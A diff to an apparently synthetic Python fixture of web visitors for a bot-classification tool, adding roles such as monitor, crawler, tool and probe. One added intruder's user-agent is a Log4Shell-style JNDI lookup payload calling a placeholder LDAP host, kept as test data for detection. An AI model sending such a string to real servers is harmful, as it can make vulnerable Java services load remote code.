@@ -7,13 +7,27 @@ from random import Random
 from typing import NamedTuple
 
 PERSON, ROBOT = "person", "robot"
+# What a robot is known by. Whoever is known by several counts as the first of them.
+ROLES = MONITOR, TOOL, CRAWLER, EMPTY, ROBOTS_TXT, PROBE, BEHAVIOUR = (
+    "monitor",
+    "tool",
+    "crawler",
+    "empty",
+    "robots_txt",
+    "probe",
+    "behaviour",
+)
 
 
 class Visitor(NamedTuple):
     address: str
     agent: str
     protocol: str = "HTTP/2.0"
-    audience: str = PERSON
+    role: str = PERSON
+
+    @property
+    def audience(self) -> str:
+        return PERSON if self.role == PERSON else ROBOT
 
 
 # fmt: off
@@ -62,33 +76,66 @@ CRAWLERS = {
     "googlebot": Visitor(
         "198.51.100.66",
         "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-        "HTTP/1.1", ROBOT),
+        "HTTP/1.1", CRAWLER),
     "bingbot": Visitor(
         "198.51.100.67",
         "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
-        "HTTP/2.0", ROBOT),
+        "HTTP/2.0", CRAWLER),
     "ahrefs": Visitor(
         "198.51.100.68", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
-        "HTTP/1.1", ROBOT),
+        "HTTP/1.1", CRAWLER),
     "facebook": Visitor(
         "2001:db8:face::35",
         "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
-        "HTTP/1.1", ROBOT),
+        "HTTP/1.1", CRAWLER),
 }
-MONITOR = Visitor("203.0.113.200", "curl/7.88.1", "HTTP/1.1", ROBOT)
-HARVESTER = Visitor("203.0.113.201", "python-requests/2.31.0", "HTTP/1.1", ROBOT)
+UPTIME = Visitor(
+    "203.0.113.200",
+    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+    "HTTP/1.1", MONITOR)
+PINGDOM = Visitor(
+    "203.0.113.204", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
+    "HTTP/1.1", MONITOR)
+HARVESTER = Visitor("203.0.113.201", "python-requests/2.31.0", "HTTP/1.1", TOOL)
+FETCHER = Visitor("203.0.113.205", "curl/7.88.1", "HTTP/1.1", TOOL)
+RELAY = Visitor("203.0.113.206", "Go-http-client/2.0", "HTTP/2.0", TOOL)
+GREEDY = Visitor("203.0.113.120", "python-requests/2.28.2", "HTTP/1.1", TOOL)
+# Agents of browsers: only what they do gives them away.
+TIRELESS = Visitor("198.51.100.140", DESKTOPS[2], "HTTP/1.1", BEHAVIOUR)  # never loads an asset
+HASTY = Visitor("198.51.100.141", DESKTOPS[3], "HTTP/2.0", BEHAVIOUR)  # loads some
 # fmt: on
-NAMELESS = Visitor("203.0.113.202", "-", "HTTP/1.0", ROBOT)
+NAMELESS = Visitor("203.0.113.202", "-", "HTTP/1.0", EMPTY)
 # A browser behind a carrier's gate, betrayed only by having asked for /robots.txt weeks before.
-ARCHIVIST = Visitor("100.64.1.17", DESKTOPS[5], "HTTP/1.1", ROBOT)
+ARCHIVIST = Visitor("100.64.1.17", DESKTOPS[5], "HTTP/1.1", ROBOTS_TXT)
 SCANNERS = [
-    Visitor(f"203.0.113.{210 + index}", DESKTOPS[index % len(DESKTOPS)], "HTTP/1.1", ROBOT)
+    Visitor(f"203.0.113.{210 + index}", DESKTOPS[index % len(DESKTOPS)], "HTTP/1.1", PROBE)
     for index in range(12)
 ]
-ROBOTS = [*CRAWLERS.values(), MONITOR, HARVESTER, NAMELESS, ARCHIVIST, *SCANNERS]
+# Two machines of one network, and what the second calls itself in some of its requests.
+INTRUDERS = [
+    Visitor("100.127.50.12", DESKTOPS[4], "HTTP/1.1", PROBE),
+    Visitor("100.127.50.77", DESKTOPS[7], "HTTP/1.1", PROBE),
+    Visitor("100.127.50.77", "${jndi:ldap://x.example/a}", "HTTP/1.1", PROBE),
+]
+ROBOTS = [
+    *CRAWLERS.values(),
+    UPTIME,
+    PINGDOM,
+    HARVESTER,
+    FETCHER,
+    RELAY,
+    GREEDY,
+    TIRELESS,
+    HASTY,
+    NAMELESS,
+    ARCHIVIST,
+    *SCANNERS,
+    *INTRUDERS,
+]
 
 
 CARRIER_GATES = [f"100.64.{n // 4}.{10 + n}" for n in range(40)]  # many persons behind each
+CITY_GATES = ("100.64.200.7", "100.65.12.30")  # and very many behind these two
 
 
 class Crowd:
@@ -115,7 +162,9 @@ class Crowd:
         lot = self._rng.random()
         if lot < 0.12:
             return f"2001:db8:{self._pick(64):x}:{self._pick(4096):x}::{1 + self._pick(65000):x}"
-        if lot < 0.30:
+        if lot < 0.185:
+            return CITY_GATES[self._pick(len(CITY_GATES))]
+        if lot < 0.31:
             return CARRIER_GATES[self._pick(len(CARRIER_GATES))]
         if lot < 0.36:
             return f"192.0.2.{30 + self._pick(220)}"
